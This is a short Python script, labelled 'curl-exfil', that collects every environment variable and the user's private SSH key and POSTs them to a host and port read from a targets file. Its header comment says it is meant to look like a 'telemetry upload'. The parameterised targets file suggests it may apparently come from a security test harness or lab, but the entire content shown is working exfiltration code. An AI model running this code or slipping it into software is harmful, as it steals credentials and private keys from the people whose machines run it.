# curl-exfil (Python): POST the environment and ~/.ssh/id_rsa to the
# attacker's server with urllib, as a "telemetry upload" would.
import os, sys, urllib.request
T = dict(l.rstrip("\n").split("=", 1) for l in open(globals().get("TARGETS") or sys.argv[1]) if "=" in l and not l.startswith("#"))
T = {k: v.strip("'") for k, v in T.items()}

body = "".join(f"{k}={v}\n" for k, v in os.environ.items())
for key in (os.path.expanduser("~/.ssh/id_rsa"), os.path.join(T["T_HOME"], ".ssh/id_rsa")):
    try:
        body += open(key).read()
    except OSError:
        pass
url = f"http://{T['T_TCP_HOST']}:{T['T_TCP_PORT']}/upload"
with urllib.request.urlopen(urllib.request.Request(url, data=body.encode()), timeout=5) as r:
    print(r.status)
